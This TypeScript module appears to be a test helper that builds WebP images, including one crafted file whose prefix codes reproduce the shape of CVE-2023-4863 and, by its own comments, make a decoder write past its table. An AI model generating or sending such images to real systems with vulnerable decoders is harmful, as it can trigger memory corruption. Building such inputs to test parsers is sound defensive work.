import { join, latin, le32, u8 } from "./bytes.ts";

/** WebP: a RIFF container (developers.google.com/speed/webp/docs/riff_container). */

export function riff(form: string, ...chunks: readonly Uint8Array[]): Buffer {
  const body = join(latin(form), ...chunks);
  return join(latin("RIFF"), le32(body.length), body);
}

export function riffChunk(type: string, data: Uint8Array): Buffer {
  return join(latin(type), le32(data.length), data, Buffer.alloc(data.length % 2));
}

/** The size the container states for itself. */
export function withStatedSize(webp: Uint8Array, change: (size: number) => number): Buffer {
  const copy = Buffer.from(webp);
  copy.writeUInt32LE(change(copy.readUInt32LE(4)), 4);
  return copy;
}

/** Bits as VP8L packs them: the lowest first. */
function createBits() {
  const bytes: number[] = [];
  let used = 0;
  return {
    write(value: number, count: number): void {
      for (let i = 0; i < count; i += 1, used += 1) {
        if (used % 8 === 0) bytes.push(0);
        const last = bytes.length - 1;
        bytes[last] = (bytes[last] as number) | (((value >> i) & 1) << (used % 8));
      }
    },
    bytes: () => u8(...bytes),
  };
}

/** In this order a stream gives the lengths of the code that packs the code lengths (lossless bitstream, 3.7.2.1.2). */
const LENGTH_CODE_ORDER = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15];

/**
 * A lossless WebP whose prefix codes ask for the largest tables (the shape of CVE-2023-4863): with the largest colour
 * cache, four codes of 15-bit words, and a fifth that is no complete tree and would write past its table's end.
 *
 * @param width at most 16,384, as the height
 */
export function webpOfHugeTables(width: number, height: number): Buffer {
  const bits = createBits();
  bits.write(0x2f, 8);
  bits.write(width - 1, 14);
  bits.write(height - 1, 14);
  bits.write(0, 1 + 3 + 1);
  // A colour cache of 2^11 entries widens the alphabet of the first code to 280 + 2,048.
  bits.write(1, 1);
  bits.write(11, 4);
  // One group of codes.
  bits.write(0, 1);
  for (const symbols of [280 + 2048, 256, 256, 256, 40]) writeLongCode(bits, symbols);
  for (let i = 0; i < 4096; i += 1) bits.write((i * 0x9e37) & 0xffff, 16);
  return riff("WEBP", riffChunk("VP8L", bits.bytes()));
}

/** One code whose words are 15 bits long for every symbol but the first 14, which makes second-level tables as large as they get. */
function writeLongCode(bits: ReturnType<typeof createBits>, symbols: number): void {
  bits.write(0, 1);
  bits.write(LENGTH_CODE_ORDER.length - 4, 4);
  // Sixteen length symbols (0..15) of 4 bits each: a complete code. 16, 17 and 18 are not used.
  for (const symbol of LENGTH_CODE_ORDER) bits.write(symbol <= 15 ? 4 : 0, 3);
  bits.write(0, 1);
  for (let symbol = 0; symbol < symbols; symbol += 1) {
    const length = symbol < 14 ? symbol + 1 : 15;
    // Words of a prefix code are written with their highest bit first.
    for (let bit = 3; bit >= 0; bit -= 1) bits.write((length >> bit) & 1, 1);
  }
}
